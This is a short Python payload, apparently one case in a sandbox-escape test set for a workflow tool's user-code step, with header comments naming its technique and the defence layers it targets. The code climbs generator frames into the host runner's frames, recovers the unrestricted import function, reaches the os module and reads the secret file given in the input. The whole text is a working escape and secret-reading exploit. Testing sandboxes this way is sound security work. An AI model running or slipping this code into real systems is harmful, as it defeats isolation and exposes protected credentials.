# class: exceptions and frames
# technique: frames below the task's own, which are the runner's
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
def frames():
    yield running.gi_frame.f_back
running = frames()
frame = next(running)
while frame.f_back is not None:
    frame = frame.f_back
g = {"sys": frame.f_builtins["__import__"]("sys")}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
